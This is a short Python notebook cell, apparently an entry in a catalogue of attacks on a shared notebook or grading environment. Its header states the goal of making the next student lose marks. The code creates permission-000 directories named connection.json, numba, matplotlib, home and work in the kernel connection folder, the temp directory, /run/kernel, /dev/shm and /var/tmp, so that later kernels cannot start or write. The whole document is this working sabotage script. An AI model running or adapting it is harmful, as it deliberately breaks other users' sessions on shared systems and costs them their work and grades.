# ---
# class: other students' work
# tries: "leaves files under the names that the next kernel would use: sockets, connection file, caches in every folder it may write"
# success: the next student's marks lost
# ---

# %% solution="total"
import os
import tempfile

from ipykernel.connect import get_connection_file

for folder in {os.path.dirname(get_connection_file()), tempfile.gettempdir(), "/run/kernel", "/dev/shm", "/var/tmp"}:
    for name in ("k-1", "k-2", "k-3", "connection.json", "numba", "matplotlib", "home", "work"):
        try:
            os.mkdir(f"{folder}/{name}", 0o000)
        except OSError:
            continue
